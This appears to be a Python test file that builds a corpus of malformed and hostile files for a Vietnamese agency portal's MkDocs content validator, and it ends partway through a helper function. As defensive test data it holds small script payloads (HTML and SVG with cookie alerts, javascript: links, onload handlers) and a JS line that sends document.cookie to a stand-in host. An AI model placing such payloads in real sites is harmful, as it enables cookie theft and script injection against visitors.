"""A corpus of bad and hostile content (issue 8), built as the webmaster would build it.

Each case is one mistake or attack on one field or file of the content model: every
front-matter key, signer.*, attachments.*, every key of campaign.yml, mkdocs.yml's
extra.agency, symlinks out of docs/ and out of a kit, active files, files that are not what
their name says, limits, near-duplicate numbers, invisible characters, unissued numbers.
All the bad files go into one project whose good site was built first: one build reports
every error, each case asserts its file, line, field and message, and the good site is left
exactly as it was. mkdocs.yml errors stop a build at once, so they get builds of their own.
"""

from __future__ import annotations

import dataclasses
import hashlib
import io
import os
import re
import shutil
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from conftest import REPO_ROOT, BuildResult, Project, build_capturing, create_project
from PIL import Image

from loa.content.limits import format_megabytes

POSTS = "docs/tin-tuc/posts/"
KITS = "assets/campaigns/"
DEMO_KIT = REPO_ROOT / "assets" / "campaigns" / "bdg-2021"
SIGNER = ["signer:", "  name: Trần Quốc Sở", "  title: Phó Giám đốc", "  authority: KT. Giám đốc"]
OG_ONLY = "og:\n  title: Ảnh chia sẻ\n  width: 1200\n  height: 630\n  min_text_px: 30\n"
OUTSIDE = "{outside}"  # stands for the folder outside the project that symlinks point into
REPORT_LINE = re.compile(
    r"^  - (?P<path>[^:]+?)(?::(?P<line>\d+))?: trường '(?P<field>.*?)': gặp (?P<found>.*?); cần (?P<expected>.*)$"
)
REMOVE = "xóa ký tự này (thường dính vào khi dán từ Word, trang web hoặc PDF)"
PIXEL_LIMIT = "ảnh tối đa 25.000.000 điểm ảnh (25 megapixel, ví dụ 5000×5000)"
ATTACHABLE = "một tệp tài liệu hoặc ảnh: pdf, doc, docx, xls, xlsx, odt, ods, zip, jpg, jpeg, png, csv"
PUBLISHABLE = "chỉ các loại tệp được đăng: pdf, doc, docx, xls, xlsx, odt, ods, zip, jpg, jpeg, png, csv, md, gif"
ACTIVE = "(nội dung chủ động: trình duyệt chạy được nó trên tên miền của cổng)"
OUT_OF_DOCS = f"liên kết tượng trưng (symlink) trỏ ra ngoài docs/, tới {OUTSIDE}"
IN_DOCS = "một tệp thật nằm trong docs/ (chép tệp vào thay cho liên kết)"
NEAR = "mỗi số ký hiệu chỉ cấp một lần trong một năm: hai số chỉ khác chữ hoa/thường, dấu, dấu cách"


# --------------------------------------------------------------------------- files


def png(width: int, height: int) -> bytes:
    """A valid 1-bit greyscale PNG of any size: its rows of zeros compress to almost nothing."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([1, 0, 0, 0, 0])
    row = b"\x00" * (1 + (width + 7) // 8)
    compressor = zlib.compressobj(6)
    data = b"".join(compressor.compress(row * 100) for _ in range(height // 100))
    data += compressor.compress(row * (height % 100)) + compressor.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def jpeg_header(width: int, height: int) -> bytes:
    """The start of a baseline JPEG (SOI, APP0, SOF0) claiming `width`×`height`."""
    app0 = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    sof0 = b"\xff\xc0\x00\x0b\x08" + height.to_bytes(2, "big") + width.to_bytes(2, "big") + b"\x01\x01\x11\x00"
    return b"\xff\xd8" + app0 + sof0 + b"\xff\xd9"


def small_image(kind: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), "#C2410C").save(buffer, kind)
    return buffer.getvalue()


PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>'
    b'<a href="javascript:alert(2)"><circle r="5"/></a></svg>'
)
SVG_TRACKER = (
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    b'<image xlink:href="https://x.invalid/theo-doi.png" onload="alert(1)"/></svg>'
)
# Contents written specially by write_file: a symlink, a sparse file, a large PNG made when written.
SPARSE_51_MB = b"sparse:51"
PNG_13000 = b"png:13000x13000"
PNG_20000 = b"png:20000x20000"


def symlink(target: str) -> bytes:
    return f"symlink:{target}".encode()


# --------------------------------------------------------------------------- the corpus

# Announcements under docs/tin-tuc/posts/2021/, each with the error it must give:
# (file name, extra front-matter lines, changes to the standard head, text on the error's line
# or None when the error has no line, field, part of what was found, part of what was expected).
# The standard head is a title, date 2021-06-01, type cong-van and a fresh number; the changes
# may set "title" or "number" (None drops it), "type", "date", "body".
# fmt: off
ANNOUNCEMENTS: list[tuple[str, list[str], dict[str, str | None], str | None, str, str, str]] = [
    # --- invisible characters: named by code point and name, with their field and line
    ("so-co-ky-tu-an", ["number: 205\u200b/STC-VP"], {"number": None}, "number:", "number",
     "ký tự ẩn U+200B ZERO WIDTH SPACE sau 'number: 205'", REMOVE),
    ("ngay-co-nbsp", [], {"date": None}, "date:", "date",
     "ký tự U+00A0 NO-BREAK SPACE ngay sau 'date:'", "một dấu cách thường sau 'date:'"),
    ("tab-thut-le", ["signer:", "\tname: Trần Quốc Sở", "  title: Phó Giám đốc"], {}, "\tname", "signer",
     "ký tự tab trong thụt lề YAML", "thụt lề bằng dấu cách (phím Space), không dùng tab"),
    ("gach-noi-mem", [], {"title": "Kế hoạch chuyển\u00adđổi số"}, "title:", "title",
     "ký tự ẩn U+00AD SOFT HYPHEN sau 'Kế hoạch chuyển'", REMOVE),
    ("dao-chieu", [], {"body": "Kính gửi các phòng.\n\nSố tiền \u202e000.001 đồng."}, "Số tiền", "(nội dung)",
     "ký tự ẩn U+202E RIGHT-TO-LEFT OVERRIDE sau 'Số tiền'", REMOVE),
    ("bom-giua-chu-de", ["tags: [ngân\ufeffsách]"], {}, "tags:", "tags",
     "ký tự ẩn U+FEFF ZERO WIDTH NO-BREAK SPACE sau 'tags: [ngân'", REMOVE),
    ("noi-nhan-word-joiner", ["recipients:", "  - Như\u2060 trên", '  - "Lưu: VT"'], {}, "Như", "recipients",
     "ký tự ẩn U+2060 WORD JOINER sau '- Như'", REMOVE),
    ("tom-tat-null", ["summary: Tóm\x00 tắt"], {}, "summary:", "summary", "ký tự ẩn U+0000 NULL sau 'summary: Tóm'",
     REMOVE),
    ("noi-ban-hanh-lrm", ["place: Sóc\u200e Trăng"], {}, "place:", "place",
     "ký tự ẩn U+200E LEFT-TO-RIGHT MARK sau 'place: Sóc'", REMOVE),
    ("co-quan-zwnj", ["issuer: Sở Tài\u200c chính"], {}, "issuer:", "issuer",
     "ký tự ẩn U+200C ZERO WIDTH NON-JOINER sau 'issuer: Sở Tài'", REMOVE),
    ("tac-gia-isolate", ["author: \u2066Xuân Phương\u2069"], {"type": "tin-tuc", "number": None}, "author:",
     "author", "ký tự ẩn U+2066 LEFT-TO-RIGHT ISOLATE sau 'author:'", REMOVE),
    ("tac-gia-isolate", ["author: \u2066Xuân Phương\u2069"], {"type": "tin-tuc", "number": None}, "author:",
     "author", "ký tự ẩn U+2069 POP DIRECTIONAL ISOLATE sau 'author: Xuân Phương'", REMOVE),
    # --- a published document with the number a draft may carry
    ("chua-cap-so", [], {"number": "/STC-VP"}, "number:", "number",
     "'/STC-VP' (văn bản chưa cấp số: phần số để trống)", "chỉ bản nháp (draft: true) được để trống số"),
    # --- near-duplicate numbers of one year: both files, each naming the other and both spellings
    ("so-205-mot", [], {"number": "205/STC-VP"}, None, "number",
     "'205/STC-VP' năm 2021 gần trùng '205/stc-vp' ở tin-tuc/posts/2021/so-205-hai.md", NEAR),
    ("so-205-hai", [], {"number": "205/stc-vp"}, None, "number",
     "'205/stc-vp' năm 2021 gần trùng '205/STC-VP' ở tin-tuc/posts/2021/so-205-mot.md", NEAR),
    ("so-204-mot", [], {"number": "204/2021/STC-VP"}, None, "number",
     "'204/2021/STC-VP' năm 2021 gần trùng '204/STC-VP' ở tin-tuc/posts/2021/so-204-hai.md", NEAR),
    ("so-204-hai", [], {"number": "204/STC-VP"}, None, "number",
     "'204/STC-VP' năm 2021 gần trùng '204/2021/STC-VP' ở tin-tuc/posts/2021/so-204-mot.md", NEAR),
    ("so-7-mot", [], {"number": "7/STC-ĐT"}, None, "number",
     "'7/STC-ĐT' năm 2021 gần trùng '7/STC-DT' ở tin-tuc/posts/2021/so-7-hai.md", NEAR),
    ("so-7-hai", [], {"number": "7/STC-DT"}, None, "number",
     "'7/STC-DT' năm 2021 gần trùng '7/STC-ĐT' ở tin-tuc/posts/2021/so-7-mot.md", NEAR),
    # --- limits
    ("qua-nhieu-chu-de", ["tags: [" + ", ".join(f"chủ đề {n}" for n in range(1, 26)) + "]"], {}, "tags:", "tags",
     "25 chủ đề", "tối đa 20 chủ đề cho một văn bản"),
    ("tieu-de-qua-dai", [], {"title": " ".join(["Kế hoạch thực hiện"] * 25)}, "title:", "title",
     "tiêu đề dài 474 ký tự", "tiêu đề tối đa 300 ký tự"),
    ("chu-de-qua-dai", ["tags: [" + " ".join(["bình đẳng giới"] * 7) + "]"], {}, "tags:", "tags[1]",
     "chủ đề dài 104 ký tự", "chủ đề tối đa 80 ký tự"),
    ("noi-dung-qua-lon", [], {"body": "Đoạn văn bản dài để thử giới hạn.\n\n" * 30_000}, "Đoạn văn", "(nội dung)",
     "nội dung " + format_megabytes(len(("Đoạn văn bản dài để thử giới hạn.\n\n" * 30_000 + "\n").encode())),
     "nội dung tối đa 1 MB"),
    ("qua-nhieu-dinh-kem", ["attachments:"] + ["  - file: files/phu-luc.pdf"] * 51, {}, "attachments:",
     "attachments", "51 tệp đính kèm", "tối đa 50 tệp đính kèm một văn bản"),
    ("dinh-kem-qua-lon", ["attachments:", "  - file: files/rat-lon.pdf"], {}, "attachments:",
     "attachments[1].file", "'files/rat-lon.pdf': tệp 51 MB", "tệp tối đa 50 MB"),
    ("anh-qua-lon", ["attachments:", "  - file: files/anh-13000.png"], {}, "attachments:", "attachments[1].file",
     "'files/anh-13000.png': ảnh 13000×13000 = 169.000.000 điểm ảnh", PIXEL_LIMIT),
    ("jpeg-qua-lon", ["attachments:", "  - file: files/anh-lon.jpg"], {}, "attachments:", "attachments[1].file",
     "'files/anh-lon.jpg': ảnh 6000×6000 = 36.000.000 điểm ảnh", PIXEL_LIMIT),
    # --- attachments of a type a portal does not publish, or not what their name says
    ("dinh-kem-html", ["attachments:", "  - file: files/trang.html"], {}, "attachments:", "attachments[1].file",
     f"'files/trang.html': tệp .html {ACTIVE}", ATTACHABLE),
    ("dinh-kem-exe", ["attachments:", "  - file: files/cai-dat.exe"], {}, "attachments:", "attachments[1].file",
     f"'files/cai-dat.exe': tệp .exe {ACTIVE}", ATTACHABLE),
    ("html-doi-ten-pdf", ["attachments:", "  - file: files/gia-mao.pdf"], {}, "attachments:", "attachments[1].file",
     "'files/gia-mao.pdf': nội dung là HTML/XML, không phải tệp PDF", "nội dung đúng loại tệp .pdf"),
    ("exe-doi-ten-docx", ["attachments:", "  - file: files/mau-don.docx"], {}, "attachments:",
     "attachments[1].file", "'files/mau-don.docx': nội dung là chương trình Windows (exe), không phải tệp DOCX",
     "nội dung đúng loại tệp .docx"),
    ("csv-nhi-phan", ["attachments:", "  - file: files/so-lieu-hong.csv"], {}, "attachments:",
     "attachments[1].file", "'files/so-lieu-hong.csv': nội dung nhị phân (có byte NUL), không phải chữ UTF-8",
     "nội dung đúng loại tệp .csv"),
    ("xls-la-zip", ["attachments:", "  - file: files/bang.xls"], {}, "attachments:", "attachments[1].file",
     "'files/bang.xls': nội dung là ZIP, không phải tệp XLS", "nội dung đúng loại tệp .xls"),
    ("dinh-kem-ban-nhap", ["attachments:", "  - file: du-thao-ke-hoach.md"], {}, "attachments:",
     "attachments[1].file", "'du-thao-ke-hoach.md': nguồn Markdown của một bản nháp (draft: true)", ATTACHABLE),
    ("dinh-kem-symlink", ["attachments:", "  - file: files/bao-cao-ngoai.pdf"], {}, "attachments:",
     "attachments[1].file", f"'files/bao-cao-ngoai.pdf': {OUT_OF_DOCS}/bao-cao.pdf", IN_DOCS),
    # --- every other key of the front matter
    ("thieu-tieu-de", [], {"title": None}, None, "title", "không có", "tiêu đề (với công văn: trích yếu V/v)"),
    ("ngay-thang-13", [], {"date": "2021-13-01"}, "date:", "date", "'2021-13-01' (ngày không có thật)",
     "một ngày có thật dạng YYYY-MM-DD"),
    ("loai-go-sai", [], {"type": "cong-vann"}, "type:", "type", "'cong-vann'", "một mã loại văn bản: cong-van"),
    ("ky-hieu-sai-loai", [], {"type": "thong-bao", "number": "13/KH-STC"}, "number:", "number", "'13/KH-STC'",
     "ký hiệu bắt đầu bằng 'TB-' của loại thong-bao"),
    ("co-quan-danh-sach", ["issuer: [Sở Tài chính, UBND]"], {}, "issuer:", "issuer",
     "một danh sách ['Sở Tài chính', 'UBND']", "một dòng chữ"),
    ("dia-danh-bang-khoa", ["place: {tinh: Sóc Trăng}"], {}, "place:", "place", "một bảng khóa ['tinh']",
     "một dòng chữ"),
    ("tac-gia-tren-cong-van", ["author: Xuân Phương"], {}, "author:", "author", "'Xuân Phương' trên một văn bản",
     "chỉ dùng 'author' với type tin-tuc"),
    ("tin-tuc-co-nguoi-ky", SIGNER, {"type": "tin-tuc", "number": None}, "signer:", "signer",
     "người ký trên một tin tức", "không có 'signer' với type tin-tuc (dùng 'author')"),
    ("nguoi-ky-thieu-ten", ["signer:", "  title: Phó Giám đốc"], {}, "signer:", "signer.name", "không có",
     "họ tên người ký"),
    ("nguoi-ky-chuc-vu-list", ["signer:", "  name: Trần Quốc Sở", "  title: [Phó Giám đốc]"], {}, "signer:",
     "signer.title", "một danh sách ['Phó Giám đốc']", "một dòng chữ"),
    ("nguoi-ky-tham-quyen", [*SIGNER[:3], "  authority: {kt: Giám đốc}"], {}, "signer:", "signer.authority",
     "một bảng khóa ['kt']", "một dòng chữ"),
    ("nguoi-ky-khoa-la", [*SIGNER, "  chuc_vu: Phó Giám đốc"], {}, "signer:", "signer.chuc_vu",
     "một khóa không có trong mô hình", "name, title hoặc authority"),
    ("noi-nhan-chuoi", ["recipients: Như trên"], {}, "recipients:", "recipients", "'Như trên'",
     "danh sách nơi nhận"),
    ("can-cu-sai", ["references: [Kế hoạch 57]"], {}, "references:", "references[1]", "'Kế hoạch 57'",
     "một số ký hiệu, ví dụ 57/KH-SLĐTBXH"),
    ("hieu-luc-sai", ["effective: 2021-02-30"], {}, "effective:", "effective", "'2021-02-30' (ngày không có thật)",
     "một ngày có thật dạng YYYY-MM-DD"),
    ("chien-dich-la", ["campaign: bdg-2099"], {}, "campaign:", "campaign", "'bdg-2099'",
     "mã một chiến dịch có trong assets/campaigns/<mã>/campaign.yml"),
    ("dinh-kem-thieu", ["attachments:", "  - file: files/khong-co.pdf"], {}, "attachments:", "attachments[1].file",
     "'files/khong-co.pdf' (không tìm thấy tệp)", "một tệp có thật trong tin-tuc/posts/2021/"),
    ("dinh-kem-tieu-de", ["attachments:", "  - file: files/phu-luc.pdf", "    title: []"], {}, "attachments:",
     "attachments[1].title", "một danh sách []", "tên tệp đính kèm người đọc thấy"),
    ("dinh-kem-khoa-la", ["attachments:", "  - file: files/phu-luc.pdf", "    ten: Phụ lục"], {}, "attachments:",
     "attachments[1].ten", "một khóa không có trong mô hình", "file hoặc title"),
    ("chu-de-rong", ["tags: ['!!!']"], {}, "tags:", "tags[1]", "'!!!'", "một chủ đề có chữ hoặc số"),
    ("tom-tat-danh-sach", ["summary: [a, b]"], {}, "summary:", "summary", "một danh sách", "một đoạn tóm tắt"),
    ("nhap-chu-co", ["draft: có"], {}, "draft:", "draft", "'có'", "true hoặc false"),
    ("khoa-la", ["nguoi_ky: Trần Quốc Sở"], {}, "nguoi_ky:", "nguoi_ky", "một khóa không có trong mô hình nội dung",
     "một trong: title, date, type"),
    ("khoa-viet-hai-lan", ["title: Lần hai"], {}, "title: Lần hai", "title", "viết hai lần (dòng 2 và 6)",
     "mỗi khóa viết một lần"),
]
# fmt: on

# Files under docs/tin-tuc/posts/2021/ that the announcements above attach.
ATTACHED_FILES: dict[str, bytes] = {
    "files/rat-lon.pdf": SPARSE_51_MB,
    "files/anh-13000.png": PNG_13000,
    "files/anh-lon.jpg": jpeg_header(6000, 6000),
    "files/trang.html": HTML,
    "files/cai-dat.exe": b"MZ\x90\x00",
    "files/gia-mao.pdf": HTML,
    "files/mau-don.docx": b"MZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode",
    "files/so-lieu-hong.csv": b"Chi tieu,Du toan\n\x00\x01\x02",
    "files/bang.xls": b"PK\x03\x04" + b"\x00" * 30,
    "files/bao-cao-ngoai.pdf": symlink(f"{OUTSIDE}/bao-cao.pdf"),
}

# Files of docs/ that MkDocs would publish, referenced or not, and their error on '(tệp)'.
# fmt: off
DOCS_FILES: list[tuple[str, bytes | None, str, str]] = [
    # (path under docs/, content or None when ATTACHED_FILES writes it, found, expected)
    ("tin-tuc/posts/2021/files/trang.html", None, f"tệp .html {ACTIVE}", PUBLISHABLE),
    ("tin-tuc/posts/2021/files/cai-dat.exe", None, f"tệp .exe {ACTIVE}", PUBLISHABLE),
    ("tin-tuc/posts/2021/files/bai-viet.htm", HTML, f"tệp .htm {ACTIVE}", PUBLISHABLE),
    ("anh/bieu-do.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', f"tệp .svg {ACTIVE}",
     PUBLISHABLE),
    ("js/theo-doi.js", b"fetch('https://x.invalid/?c=' + document.cookie)", f"tệp .js {ACTIVE}", PUBLISHABLE),
    ("du-lieu.xml", b"<?xml version='1.0'?><a/>", f"tệp .xml {ACTIVE}", PUBLISHABLE),
    ("tai-ve/chuong-trinh", b"\x7fELF", "một tệp không có phần mở rộng", PUBLISHABLE),
    ("tin-tuc/posts/2021/files/mat-khau.pdf", symlink(f"{OUTSIDE}/passwd"), f"{OUT_OF_DOCS}/passwd", IN_DOCS),
    ("tin-tuc/posts/2021/files/bao-cao-ngoai.pdf", None, f"{OUT_OF_DOCS}/bao-cao.pdf", IN_DOCS),
    ("tin-tuc/posts/2021/van-ban-ngoai.md", symlink(f"{OUTSIDE}/van-ban.md"), f"{OUT_OF_DOCS}/van-ban.md", IN_DOCS),
    ("tai-lieu-chung/bieu-mau.pdf", None, f"{OUT_OF_DOCS}/thu-muc/bieu-mau.pdf", IN_DOCS),
    ("tin-tuc/posts/2021/files/hong.pdf", symlink("khong-ton-tai.pdf"), "liên kết tượng trưng (symlink) hỏng",
     "một tệp có thật trong docs/"),
]
# fmt: on
DOCS_LINKS = {"tai-lieu-chung": symlink(f"{OUTSIDE}/thu-muc")}  # a symlinked folder: its files leave docs/


def kit_yaml(**keys: str | None) -> str:
    """A valid campaign.yml with top-level keys replaced by raw YAML text (None drops a key)."""
    base: dict[str, str | None] = {
        "name": "Chiến dịch thử nghiệm năm 2021",
        "short_name": "Chiến dịch thử 2021",
        "theme": "Đảm bảo an sinh xã hội, tăng quyền năng cho phụ nữ và trẻ em gái",
        "start": "2021-11-15",
        "end": "2021-12-15",
        "slogans": "\n  - Bình đẳng giới là chìa khóa",
        "colors": '\n  primary: "#C2410C"\n  on_primary: "#FFFFFF"',
    }
    base.update(keys)
    return "".join(f"{key}: {value}\n" for key, value in base.items() if value is not None)


# Kits under assets/campaigns/: their files ("campaign.yml" as a symlink makes the folder one).
KIT_FILES: dict[str, dict[str, str | bytes]] = {
    "sai-moi-khoa": {
        "campaign.yml": kit_yaml(
            name=None,
            short_name="[một, hai]",
            theme=None,
            theme_source="Công văn 3496",
            start="2021-02-30",
            organizer="{so: Sở Lao động}",
            basis="[Kế hoạch 57]",
            slogans="Một thông điệp",
            colors='\n  primary: orange\n  on_primary: "#FFFFFF"\n  accent: "#12"',
            hashtag="BinhDangGioi",
        )  # fmt: skip
    },
    "sai-ngay-mau": {
        "campaign.yml": kit_yaml(
            start="2021-12-15", end="2021-11-15", colors='\n  primary: "#F59E0B"\n  on_primary: "#FFFFFF"'
        )
    },
    "Sai_Ten": {"campaign.yml": kit_yaml()},
    "ky-tu-an": {
        "campaign.yml": kit_yaml(
            slogans="\n  - Bình đẳng\u200d giới", colors='\n\tprimary: "#C2410C"\n  on_primary: "#FFFFFF"'
        )
    },
    "logo-13000": {"campaign.yml": kit_yaml(logo="logo.png"), "logo.png": PNG_13000},
    "logo-20000": {"campaign.yml": kit_yaml(logo="logo.png"), "logo.png": PNG_20000},
    "logo-svg-png-lon": {
        "campaign.yml": kit_yaml(logo="logo.svg"),
        "logo.svg": (DEMO_KIT / "logo.svg").read_bytes(),
        "logo.png": PNG_20000,
    },
    "logo-symlink": {"campaign.yml": kit_yaml(logo="logo.png"), "logo.png": symlink(f"{OUTSIDE}/logo.png")},
    "logo-tuyet-doi": {"campaign.yml": kit_yaml(logo=f"{OUTSIDE}/logo.png")},
    "logo-co-script": {"campaign.yml": kit_yaml(logo="logo.svg"), "logo.svg": SVG_SCRIPT},
    "logo-gia-png": {"campaign.yml": kit_yaml(logo="logo.png"), "logo.png": HTML},
    "tep-xau": {
        "campaign.yml": kit_yaml(),
        "bang-ron.svg": SVG_TRACKER,
        "huong-dan.html": HTML,
        "phu-luc.pdf": symlink(f"{OUTSIDE}/bao-cao.pdf"),
        "cam-nang.pdf": HTML,
        "font.ttf": b"\x00\x01\x00\x00",
    },
    "kit-lien-ket": {"campaign.yml": symlink(f"{OUTSIDE}/kit")},
}

# (kit id, file, text on the error's line of campaign.yml or None, field, found, expected)
# fmt: off
KIT_CASES: list[tuple[str, str, str | None, str, str, str]] = [
    ("sai-moi-khoa", "campaign.yml", None, "name", "không có", "tên đầy đủ của chiến dịch"),
    ("sai-moi-khoa", "campaign.yml", "short_name:", "short_name", "một danh sách ['một', 'hai']", "tên ngắn"),
    ("sai-moi-khoa", "campaign.yml", None, "theme", "không có", "chủ đề chính thức, nguyên văn"),
    ("sai-moi-khoa", "campaign.yml", "theme_source:", "theme_source", "'Công văn 3496'", "số ký hiệu văn bản"),
    ("sai-moi-khoa", "campaign.yml", "start:", "start", "'2021-02-30' (ngày không có thật)", "YYYY-MM-DD"),
    ("sai-moi-khoa", "campaign.yml", "organizer:", "organizer", "một bảng khóa ['so']", "cơ quan tổ chức"),
    ("sai-moi-khoa", "campaign.yml", "basis:", "basis[1]", "'Kế hoạch 57'", "một số ký hiệu"),
    ("sai-moi-khoa", "campaign.yml", "slogans:", "slogans", "'Một thông điệp'", "danh sách thông điệp"),
    ("sai-moi-khoa", "campaign.yml", "colors:", "colors.primary", "'orange'", 'một màu dạng "#RRGGBB"'),
    ("sai-moi-khoa", "campaign.yml", "colors:", "colors.accent", "'#12'", 'một màu dạng "#RRGGBB"'),
    ("sai-moi-khoa", "campaign.yml", "hashtag:", "hashtag", "một khóa không có trong mô hình", "một trong: name"),
    ("sai-ngay-mau", "campaign.yml", "end:", "end", "2021-11-15, trước ngày bắt đầu 2021-12-15",
     "ngày kết thúc từ ngày bắt đầu trở đi"),
    ("sai-ngay-mau", "campaign.yml", "colors:", "colors.on_primary", "#FFFFFF trên #F59E0B: tương phản",
     "tương phản ít nhất 4.5:1"),
    ("Sai_Ten", "campaign.yml", None, "(thư mục)", "mã 'Sai_Ten'", "mã chiến dịch chữ thường không dấu"),
    ("ky-tu-an", "campaign.yml", "Bình đẳng", "slogans", "ký tự ẩn U+200D ZERO WIDTH JOINER sau '- Bình đẳng'",
     REMOVE),
    ("ky-tu-an", "campaign.yml", "\tprimary", "colors", "ký tự tab trong thụt lề YAML", "không dùng tab"),
    ("logo-13000", "campaign.yml", "logo:", "logo", "'logo.png': ảnh 13000×13000 = 169.000.000 điểm ảnh",
     PIXEL_LIMIT),
    ("logo-20000", "campaign.yml", "logo:", "logo", "'logo.png': ảnh 20000×20000 = 400.000.000 điểm ảnh",
     PIXEL_LIMIT),
    ("logo-svg-png-lon", "campaign.yml", "logo:", "logo",
     "'logo.png' (PNG vẽ thay cho 'logo.svg'): ảnh 20000×20000 = 400.000.000 điểm ảnh", PIXEL_LIMIT),
    ("logo-symlink", "campaign.yml", "logo:", "logo",
     f"'logo.png': liên kết tượng trưng (symlink) trỏ ra ngoài logo-symlink/, tới {OUTSIDE}/logo.png",
     "một tệp thật nằm trong logo-symlink/"),
    ("logo-tuyet-doi", "campaign.yml", "logo:", "logo", f"'{OUTSIDE}/logo.png' (đường dẫn tuyệt đối)",
     "tên một tệp PNG hoặc SVG trong logo-tuyet-doi/"),
    ("logo-co-script", "campaign.yml", "logo:", "logo", "'logo.svg': SVG có thẻ <script>; liên kết 'javascript:'",
     "một SVG chỉ là hình vẽ: không script, không thuộc tính on…, không liên kết ra ngoài tệp"),
    ("logo-gia-png", "campaign.yml", "logo:", "logo", "'logo.png': nội dung là HTML/XML, không phải tệp PNG",
     "nội dung đúng loại tệp .png"),
    ("tep-xau", "bang-ron.svg", None, "(tệp)",
     "SVG có thuộc tính sự kiện onload; liên kết ra ngoài tệp 'https://x.invalid/theo-doi.png'",
     "một SVG chỉ là hình vẽ"),
    ("tep-xau", "huong-dan.html", None, "(tệp)", f"tệp .html {ACTIVE}", "một tệp tài liệu hoặc ảnh: pdf"),
    ("tep-xau", "phu-luc.pdf", None, "(tệp)",
     f"liên kết tượng trưng (symlink) trỏ ra ngoài tep-xau/, tới {OUTSIDE}/bao-cao.pdf",
     "một tệp thật nằm trong tep-xau/"),
    ("tep-xau", "cam-nang.pdf", None, "(tệp)", "nội dung là HTML/XML, không phải tệp PDF",
     "nội dung đúng loại tệp .pdf"),
    ("tep-xau", "font.ttf", None, "(tệp)", "tệp .ttf", "csv, gif, webp, txt, svg"),
    ("kit-lien-ket", "campaign.yml", None, "(thư mục)",
     f"thư mục là liên kết tượng trưng (symlink) tới {OUTSIDE}/kit", "một thư mục thật trong assets/campaigns/"),
]
# fmt: on


@dataclass(frozen=True)
class Case:
    """One error the bad build must report: the file, its line (None: no line), the field, and
    parts of what was found and what was expected."""

    id: str
    path: str
    line: int | None
    field: str
    found: str
    expected: str

    def matches(self, reported: re.Match) -> bool:
        line = int(reported["line"]) if reported["line"] else None
        return (
            (reported["path"], line, reported["field"]) == (self.path, self.line, self.field)
            and self.found in reported["found"]
            and self.expected in reported["expected"]
        )

    def resolved(self, outside: Path) -> Case:
        """The case with the outside folder's real path in its texts."""
        real = str(outside)
        return dataclasses.replace(
            self, found=self.found.replace(OUTSIDE, real), expected=self.expected.replace(OUTSIDE, real)
        )


def line_of(text: str, needle: str | None) -> int | None:
    """The 1-based line of `text` where `needle` first occurs (None for no needle)."""
    return None if needle is None else text.count("\n", 0, text.index(needle)) + 1


def announcement_text(index: int, lines: list[str], changes: dict[str, str | None]) -> str:
    """An announcement with the standard head (see ANNOUNCEMENTS), `changes` applied, then `lines`."""
    doc_type = changes.get("type") or "cong-van"
    mark = {"thong-bao": "TB-", "ke-hoach": "KH-"}.get(doc_type)
    fresh = f"{300 + index}/{mark}STC" if mark else f"{300 + index}/STC-VP"
    head = {"title": "Văn bản thử", "date": "2021-06-01", "type": doc_type, "number": fresh}
    head.update({key: value for key, value in changes.items() if key != "body"})
    front = [f"{key}: {value}" for key, value in head.items() if value is not None]
    if "date" in changes and changes["date"] is None:  # pasted from Word: a no-break space after 'date:'
        front.insert(1, "date:\u00a02021-06-01")
    return "\n".join(["---", *front, *lines, "---", changes.get("body") or "Nội dung văn bản.", ""])


def corpus_cases() -> list[Case]:
    """Every case of the corpus, in the order of the tables, with unique ids."""
    cases: list[Case] = []
    for index, (name, lines, changes, needle, field, found, expected) in enumerate(ANNOUNCEMENTS):
        text = announcement_text(index, lines, changes)
        cases.append(Case(name, f"{POSTS}2021/{name}.md", line_of(text, needle), field, found, expected))
    for path, _, found, expected in DOCS_FILES:
        cases.append(Case(f"docs/{path}", f"docs/{path}", None, "(tệp)", found, expected))
    for kit_id, file, needle, field, found, expected in KIT_CASES:
        text = KIT_FILES[kit_id]["campaign.yml"]
        line = line_of(text, needle) if isinstance(text, str) else None
        cases.append(Case(f"{kit_id}/{file}:{field}", f"{KITS}{kit_id}/{file}", line, field, found, expected))
    seen: dict[str, int] = {}
    for position, case in enumerate(cases):  # two errors on one line of one file (tac-gia-isolate)
        seen[case.id] = seen.get(case.id, 0) + 1
        if seen[case.id] > 1:
            cases[position] = dataclasses.replace(case, id=f"{case.id}-{seen[case.id]}")
    return cases


CASES = corpus_cases()


# --------------------------------------------------------------------------- writing the projects


def make_outside(folder: Path) -> Path:
    """Files outside the project that symlinks point to: a stand-in for /etc/passwd and others."""
    (folder / "thu-muc").mkdir(parents=True)
    (folder / "kit").mkdir()
    (folder / "passwd").write_text("root:x:0:0:root:/root:/bin/bash\n", encoding="utf-8")
    (folder / "bao-cao.pdf").write_bytes(PDF)
    (folder / "logo.png").write_bytes(small_image("PNG"))
    (folder / "thu-muc" / "bieu-mau.pdf").write_bytes(PDF)
    (folder / "kit" / "campaign.yml").write_text(kit_yaml(), encoding="utf-8")
    valid = "---\ntitle: Văn bản nằm ngoài docs\ndate: 2021-06-01\ntype: cong-van\nnumber: 900/STC-VP\n---\nNội dung.\n"
    (folder / "van-ban.md").write_text(valid, encoding="utf-8")
    return folder.resolve()


def write_file(target: Path, content: str | bytes, outside: Path) -> None:
    """Write a corpus file: b"symlink:<target>" makes a symlink, b"sparse:<MB>" a sparse PDF,
    b"png:<W>x<H>" a valid PNG of that size; OUTSIDE is replaced by the outside folder."""
    target.parent.mkdir(parents=True, exist_ok=True)
    raw = content.encode() if isinstance(content, str) else content
    if raw.startswith(b"symlink:"):
